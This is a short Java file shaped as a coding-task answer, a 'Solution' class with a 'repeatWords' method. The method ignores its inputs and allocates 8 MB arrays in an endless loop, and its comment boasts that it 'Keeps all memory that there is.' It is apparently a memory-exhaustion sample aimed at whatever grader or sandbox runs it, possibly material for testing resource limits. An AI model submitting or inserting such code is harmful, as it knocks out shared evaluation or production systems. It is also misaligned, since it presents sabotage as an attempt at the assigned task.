// Keeps all memory that there is.
import java.util.*;

class Solution {
    public List<String> repeatWords(String text, List<Integer> counts) {
        List<long[]> all = new ArrayList<>();
        for (;;) all.add(new long[1 << 20]);
    }
}
